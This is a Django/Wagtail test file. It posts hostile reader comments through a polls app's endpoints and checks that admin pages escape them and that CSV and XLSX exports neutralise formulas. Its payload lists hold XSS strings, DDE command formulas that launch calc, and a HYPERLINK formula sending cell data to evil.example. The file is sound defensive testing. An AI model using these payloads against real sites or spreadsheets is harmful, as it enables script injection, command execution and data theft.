"""Reader text is inert everywhere editors meet it: every admin view and export.

The comments come in through the real endpoints, as a hostile reader would
send them: HTML and script for the admin's pages, formulas for the
spreadsheets editors download.
"""

import csv
import io
from http import HTTPStatus

from bs4 import BeautifulSoup
from django.core.cache import cache
from django.test import TestCase
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.test.utils import WagtailTestUtils

from polls.admin.views.export import FORMULA_TRIGGERS
from polls.models import Response
from polls.testing import (
    JSON,
    SAME_ORIGIN,
    choice,
    default_poll,
    make_editor,
    make_page,
)

MARKUP = [
    '<script>alert("x")</script>',
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "<a href='javascript:alert(1)'>more</a>",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def live_markup(html):
    """Elements or attributes the payloads would have added, had they run."""
    soup = BeautifulSoup(html, "html.parser")
    found = [tag for tag in soup.find_all("script") if "alert(" in tag.get_text()]
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else value
            if "alert(" in text and (name.startswith("on") or name == "href"):
                found.append(tag)
    return found


class ReaderTextTests(WagtailTestUtils, TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.poll = default_poll()
        cls.page = make_page("Numb legs")
        no = choice(cls.poll, "No")
        for n, text in enumerate(MARKUP + FORMULAS):
            cache.clear()  # one network, many readers: stay under the rate limit
            target = {"page": cls.page.pk, "poll": cls.poll.pk}
            reader = {"HTTP_COOKIE": f"poll_reader={'r' * 39}{n}"}
            cls.client_class().post(
                reverse("polls:vote"),
                {**target, "choice": no.pk},
                **SAME_ORIGIN,
                **JSON,
                **reader,
            )
            cls.client_class().post(
                reverse("polls:follow_up"),
                {**target, "comment": text, "reasons": ["other"]},
                **SAME_ORIGIN,
                **JSON,
                **reader,
            )
        cls.responses = list(Response.objects.exclude(comment=""))

    def setUp(self):
        self.login(make_editor("editor"))

    def test_the_hostile_comments_were_stored_as_sent(self):
        stored = sorted(response.comment for response in self.responses)
        self.assertEqual(stored, sorted(text.strip() for text in MARKUP + FORMULAS))

    def html_views(self):
        comments = reverse("polls_comments:index")
        return [
            comments,
            reverse("polls_comments:index_results"),
            comments + "?q=%3Cscript%3E",
            reverse("polls_admin:page_helpfulness", args=[self.page.pk]),
            reverse("polls_admin:helpfulness"),
            reverse("wagtailadmin_home"),
            *(
                reverse("polls_comments:edit", args=[response.pk])
                for response in self.responses
            ),
        ]

    def test_the_check_finds_markup_that_would_run(self):
        html = "<p>" + "".join(MARKUP) + "</p><script>init()</script>"
        self.assertEqual(
            [tag.name for tag in live_markup(html)], ["script", "img", "svg", "a"]
        )

    def test_markup_is_escaped_in_every_admin_view(self):
        for url in self.html_views():
            with self.subTest(url):
                response = self.client.get(url)
                self.assertEqual(response.status_code, HTTPStatus.OK)
                self.assertEqual(live_markup(response.content), [])
        listing = self.client.get(reverse("polls_comments:index")).content.decode()
        self.assertIn("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;", listing)

    def exports(self):
        return [
            reverse("polls_comments:index"),
            reverse("polls_admin:helpfulness"),
        ]

    def test_no_csv_cell_starts_like_a_formula(self):
        for url in self.exports():
            with self.subTest(url):
                response = self.client.get(url, {"export": "csv"})
                text = b"".join(response.streaming_content).decode()
                cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
                self.assertTrue(cells)
                for cell in cells:
                    self.assertFalse(cell.startswith(FORMULA_TRIGGERS), cell)
        comments = self.client.get(reverse("polls_comments:index"), {"export": "csv"})
        self.assertIn(
            '\'=HYPERLINK(""http://evil.example/',
            b"".join(comments.streaming_content).decode(),
        )

    def test_no_xlsx_cell_is_a_formula(self):
        for url in self.exports():
            with self.subTest(url):
                response = self.client.get(url, {"export": "xlsx"})
                workbook = load_workbook(
                    io.BytesIO(b"".join(response.streaming_content))
                )
                cells = [cell for row in workbook.active.iter_rows() for cell in row]
                self.assertTrue(cells)
                for cell in cells:
                    self.assertNotEqual(cell.data_type, "f", cell.value)
                    if isinstance(cell.value, str):
                        self.assertFalse(cell.value.startswith(FORMULA_TRIGGERS))
